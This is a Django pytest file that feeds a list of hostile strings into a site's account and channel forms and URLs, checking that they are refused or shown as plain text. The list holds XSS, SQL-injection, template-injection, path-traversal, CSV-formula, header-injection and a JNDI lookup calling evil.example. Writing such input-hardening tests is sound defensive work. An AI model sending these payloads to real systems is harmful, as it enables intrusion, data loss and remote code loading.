"""Strings that break sites, in every field of every form: each is refused by name or kept as it is, and none runs."""

from __future__ import annotations

import pytest
from django.core.cache import cache
from django.test import Client

from mutoscope.platform.accounts.models import Channel
from tests.people import make_person

pytestmark = pytest.mark.django_db

NAUGHTY = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE accounts_person; --",
    "{{ 7*7 }}{% csrf_token %}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "%00",
    "a\u0000b",
    "\ud83d",
    "\u202etxt.exe",
    "\ufeff",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
    "a" * 20_000,
    "=cmd|' /C calc'!A0",
    "javascript:alert(1)",
    "İıſK",
    "1e309",
    "null",
    "\r\nSet-Cookie: a=b",
]
FORMS = {
    "/account/signup/": ("email", "username", "password1"),
    "/account/login/": ("login", "password"),
    "/account/password/reset/": ("email",),
    "/account/email/": ("email",),
    "/studio/channel/open/": ("handle", "title", "description"),
}


@pytest.mark.parametrize("text", NAUGHTY, ids=range(len(NAUGHTY)))
@pytest.mark.parametrize("path", FORMS)
def test_naughty_strings(path: str, text: str) -> None:
    cache.clear()
    client = Client()
    if not path.startswith("/account/") or path == "/account/email/":
        client.force_login(make_person())
    # A lone surrogate cannot be sent in UTF-8; a browser sends the replacement character.
    text = text.encode("utf-8", "replace").decode()
    for field in FORMS[path]:
        good = {"handle": "northlight", "title": "A", "action_add": "1"}
        answer = client.post(path, {**good, field: text}, follow=True)
        # The guard refuses a NUL before any form sees it.
        assert answer.status_code in ({400} if "\0" in text else {200, 422})
        page = answer.content.decode()
        assert "<script>alert(1)" not in page
        assert "<img src=x" not in page
        assert "49{%" not in page


@pytest.mark.parametrize("text", NAUGHTY, ids=range(len(NAUGHTY)))
def test_naughty_strings_in_addresses(client: Client, text: str) -> None:
    text = text.encode("utf-8", "replace").decode()[:2000]
    for path in (f"/@{text}", f"/media/avatars/{text}", f"/account/confirm-email/{text}/"):
        assert client.get(path).status_code in {200, 301, 302, 400, 404, 414}
    # The guard refuses a NUL before any page sees it.
    shown = 400 if "\0" in text else 200
    assert client.get("/account/login/", {"next": text}).status_code == shown
    assert client.get("/account/signup/", {"email": text}).status_code == shown


def test_what_a_channel_says_is_shown_as_text(client: Client) -> None:
    client.force_login(make_person())
    client.post(
        "/studio/channel/open/",
        {"handle": "northlight", "title": NAUGHTY[0], "description": NAUGHTY[1] + "\n" + NAUGHTY[3]},
    )
    assert Channel.objects.get().title == NAUGHTY[0]
    for path in ("/@northlight", "/", "/studio/", "/studio/channel/"):
        page = client.get(path).content.decode()
        assert "<script>alert" not in page
        assert "<img src=x" not in page
